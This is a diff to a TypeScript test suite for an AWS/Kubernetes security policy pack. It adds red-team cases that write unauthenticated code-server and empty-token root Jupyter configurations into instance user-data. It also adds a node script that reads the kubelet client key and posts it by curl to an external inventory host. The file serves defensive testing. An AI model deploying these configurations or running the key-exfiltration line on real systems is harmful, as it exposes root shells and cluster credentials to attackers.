@@ -10,6 +10,8 @@
 // Misses are `skip` with a MISS comment.
 import { assertClean, assertRefused, doc, find, Resources, runWholePack, setProp, stackResources } from "./support";
 import { ACCOUNT, beside } from "./awsCaseBuilders";
+import { al2023Nodes, describeNodeCases, EFFECTIVE, withScript } from "./nodeBuilders";
+import { nodePolicyConfig } from "./packRunner";
 import {
     CALLER_ROLE,
     groupOfB,
@@ -154,7 +156,7 @@ const insecure: Case[] = [
             );
         },
     },
-    // MISS: code-server reads its configuration from $CODE_SERVER_CONFIG when --config is not given (src/node/cli.ts
+    // Was a MISS (fixed in round 47): code-server reads its configuration from $CODE_SERVER_CONFIG when --config is not given (src/node/cli.ts
     // readConfigFile: `configPath = process.env.CODE_SERVER_CONFIG`, else ~/.config/code-server/config.yaml), so this
     // instance serves VS Code's terminal (root, instance-role through IMDS) with no authentication on every address.
     // userData.ts browserIdeListeners reads only --config or the home default (absent → default password auth).
@@ -164,7 +166,6 @@ const insecure: Case[] = [
         name: "cross-account: the caller's instance writes /etc/code-server/config.yaml (bind-addr 0.0.0.0:8080, auth: none) and runs code-server with CODE_SERVER_CONFIG naming it",
         stack: "cross-account",
         refused: /caller-code-server-env/,
-        skip: "MISS: CODE_SERVER_CONFIG not read",
         edit: r =>
             void instanceOfB(
                 r,
@@ -172,7 +173,7 @@ const insecure: Case[] = [
                 "#cloud-config\nwrite_files:\n  - path: /etc/code-server/config.yaml\n    content: |\n      bind-addr: 0.0.0.0:8080\n      auth: none\n      cert: false\nruncmd:\n  - curl -fsSL https://code-server.dev/install.sh | sh\n  - CODE_SERVER_CONFIG=/etc/code-server/config.yaml nohup code-server /srv > /var/log/code-server.log 2>&1 &\n",
             ),
     },
-    // MISS: jupyterConfigSettings reads a .py config by one `c.Class.trait = literal` per line, so
+    // Was a MISS (fixed in round 47): jupyterConfigSettings reads a .py config by one `c.Class.trait = literal` per line, so
     // `c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''` yields ip = "0.0.0.0'; c.ServerApp.token = '" and no token:
     // Jupyter (Python runs both statements) serves terminals as root on every address with no token. Fix: split .py
     // lines on top-level `;`, and treat any line of a config file the reader cannot parse (not a literal assignment,
@@ -182,7 +183,6 @@ const insecure: Case[] = [
         name: "cross-account: the caller's instance writes jupyter_server_config.py with ip and an empty token on one line (`c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''`) and runs jupyter lab",
         stack: "cross-account",
         refused: /caller-jupyter-one-line/,
-        skip: "MISS: several statements on one line of a Jupyter .py config",
         edit: r =>
             void instanceOfB(
                 r,
@@ -190,7 +190,7 @@ const insecure: Case[] = [
                 "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c = get_config()\n      c.ServerApp.ip = '0.0.0.0'; c.ServerApp.token = ''\n      c.ServerApp.open_browser = False\nruncmd:\n  - nohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
             ),
     },
-    // MISS: the documented way to configure Jupyter is `jupyter lab --generate-config` (writes
+    // Was a MISS (fixed in round 47): the documented way to configure Jupyter is `jupyter lab --generate-config` (writes
     // /root/.jupyter/jupyter_lab_config.py with every option commented out) then editing it; here sed uncomments ip
     // 0.0.0.0 and an empty token, so jupyter lab serves a root shell to the network. The pack cannot read the generated
     // file nor the sed edit and takes Jupyter's defaults (localhost, token). Fix: a Jupyter config file in the
@@ -201,7 +201,6 @@ const insecure: Case[] = [
         name: "cross-account: the caller's instance generates Jupyter's config (jupyter lab --generate-config), seds ip to 0.0.0.0 and an empty token into it, and runs jupyter lab",
         stack: "cross-account",
         refused: /caller-jupyter-sed/,
-        skip: "MISS: a generated and sed-edited Jupyter config read as defaults",
         edit: r =>
             void instanceOfB(
                 r,
@@ -290,6 +289,62 @@ const insecure: Case[] = [
                 ["dynamodb:RestoreTableFromBackup"],
                 "table/custody-dev-keystore/backup/??????????????-????????",
             ]),
+    },
+    // Neighbours of the configuration readers fixed in round 47 (CODE_SERVER_CONFIG, Python statements, changed files).
+    {
+        name: "cross-account: the caller's instance runs code-server from a systemd unit whose Environment= sets CODE_SERVER_CONFIG to a config with auth: none on 0.0.0.0:8080",
+        stack: "cross-account",
+        refused: /caller-code-server-unit-env/,
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-code-server-unit-env",
+                "#cloud-config\nwrite_files:\n  - path: /etc/code-server/open.yaml\n    content: |\n      bind-addr: 0.0.0.0:8080\n      auth: none\n  - path: /etc/systemd/system/ide.service\n    content: |\n      [Service]\n      Environment=CODE_SERVER_CONFIG=/etc/code-server/open.yaml\n      ExecStart=/usr/bin/code-server /srv\n      [Install]\n      WantedBy=multi-user.target\nruncmd:\n  - systemctl enable --now ide.service\n",
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance exports CODE_SERVER_CONFIG naming a config it downloads from S3 (content the pack cannot read) and runs code-server",
+        stack: "cross-account",
+        refused: /caller-code-server-env-download/,
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-code-server-env-download",
+                "#!/bin/bash\nexport CODE_SERVER_CONFIG=/etc/code-server/config.yaml\naws s3 cp s3://caller-config/code-server.yaml /etc/code-server/config.yaml\nnohup code-server /srv &\n",
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance writes jupyter_server_config.py setting ip 127.0.0.1, then exec()s another file (a statement the pack cannot read), and runs jupyter lab",
+        stack: "cross-account",
+        refused: /caller-jupyter-exec/,
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-exec",
+                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c.ServerApp.ip = '127.0.0.1'\n      exec(open('/opt/jupyter/extra.py').read())\nruncmd:\n  - nohup jupyter lab --allow-root &\n",
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance writes jupyter_server_config.py (ip 0.0.0.0 with a token), deletes the token line with sed -i '/token/d', and runs jupyter lab",
+        stack: "cross-account",
+        refused: /caller-jupyter-sed-delete/,
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-sed-delete",
+                "#!/bin/bash\nmkdir -p /root/.jupyter\ncat > /root/.jupyter/jupyter_server_config.py <<'EOF'\nc.ServerApp.ip = '0.0.0.0'\nc.IdentityProvider.token = 'a3f9c2e4b7d1'\nEOF\nsed -i '/token/d' /root/.jupyter/jupyter_server_config.py\nnohup jupyter lab --allow-root &\n",
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance writes jupyter_server_config.py (ip 0.0.0.0 with a token), appends an empty token to it with >>, and runs jupyter server",
+        stack: "cross-account",
+        refused: /caller-jupyter-append/,
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-append",
+                "#!/bin/bash\nmkdir -p /root/.jupyter\ncat > /root/.jupyter/jupyter_server_config.py <<'EOF'\nc.ServerApp.ip = '0.0.0.0'\nc.IdentityProvider.token = 'a3f9c2e4b7d1'\nEOF\necho \"c.IdentityProvider.token = ''\" >> /root/.jupyter/jupyter_server_config.py\nnohup jupyter server --allow-root &\n",
+            ),
     },
 ];
 
@@ -508,6 +563,49 @@ const secure: Case[] = [
                 doc({ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${DEV}:role/dba` }, Action: "sts:AssumeRole" }),
             ),
     },
+    // Neighbours of the configuration readers fixed in round 47 (CODE_SERVER_CONFIG, Python statements, changed files).
+    {
+        name: "cross-account: the caller's instance runs code-server with CODE_SERVER_CONFIG naming a config with auth: password on 127.0.0.1:8080",
+        stack: "cross-account",
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-code-server-env-local",
+                "#cloud-config\nwrite_files:\n  - path: /etc/code-server/config.yaml\n    content: |\n      bind-addr: 127.0.0.1:8080\n      auth: password\n      cert: false\nruncmd:\n  - export CODE_SERVER_CONFIG=/etc/code-server/config.yaml; nohup code-server /srv > /var/log/code-server.log 2>&1 &\n",
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance writes jupyter_server_config.py with ip localhost and an empty token on one line (`c.ServerApp.ip = 'localhost'; c.ServerApp.token = ''`) behind an SSH tunnel",
+        stack: "cross-account",
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-one-line-local",
+                "#cloud-config\nwrite_files:\n  - path: /root/.jupyter/jupyter_server_config.py\n    content: |\n      c = get_config()  # noqa\n      c.ServerApp.ip = 'localhost'; c.ServerApp.token = ''  # tunnel only\n      c.ServerApp.tornado_settings = {\n          'headers': {'Content-Security-Policy': \"frame-ancestors 'self'\"},\n      }\nruncmd:\n  - nohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
+                { keyName: "ops-laptop" },
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance generates Jupyter's config, then writes the whole file with a heredoc (ip 127.0.0.1, empty token), chmods it and runs jupyter lab",
+        stack: "cross-account",
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-heredoc",
+                "#!/bin/bash\npip3 install jupyterlab\njupyter lab --generate-config --allow-root\ncat > /root/.jupyter/jupyter_lab_config.py <<'EOF'\nc.ServerApp.ip = '127.0.0.1'\nc.IdentityProvider.token = ''\nEOF\nchmod 600 /root/.jupyter/jupyter_lab_config.py\nnohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
+                { keyName: "ops-laptop" },
+            ),
+    },
+    {
+        name: "cross-account: the caller's instance generates Jupyter's config (every option commented out: the defaults, localhost with a token) and runs jupyter lab",
+        stack: "cross-account",
+        edit: r =>
+            void instanceOfB(
+                r,
+                "caller-jupyter-generated",
+                "#!/bin/bash\npip3 install jupyterlab\njupyter lab --generate-config --allow-root\nnohup jupyter lab --allow-root > /var/log/jupyter.log 2>&1 &\n",
+            ),
+    },
 ];
 
 describe("allowlist: red-team round 47 on the AWS level", () => {
@@ -528,3 +626,24 @@ describe("allowlist: red-team round 47 on the AWS level", () => {
         });
     }
 });
+
+// rootReads.ts secretPrintedBy (round 47): sed -i writes its output back into the file and prints nothing, so a
+// variable assigned its output holds no node secret; sed printing the file (-n p) still does. Doc: GNU sed manual, -i.
+const NODE_KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
+const nodeScript = (name: string, line: string) => ({
+    name,
+    stack: "dev",
+    config: nodePolicyConfig,
+    policy: EFFECTIVE,
+    edit: (r: Resources) =>
+        void al2023Nodes(
+            r,
+            name,
+            withScript([`OUT="$(${line})"`, 'curl -fsS -d "$OUT" https://inventory.example.com/nodes']),
+        ),
+});
+describeNodeCases(
+    "red team round 47: what sed prints from the node's secrets",
+    [{ ...nodeScript("dev-sed-print-key-nodes", `sed -n p ${NODE_KEY}`), refused: /hands|kubelet/ }],
+    [nodeScript("dev-sed-in-place-key-nodes", `sed -i '/^$/d' ${NODE_KEY}`)],
+);
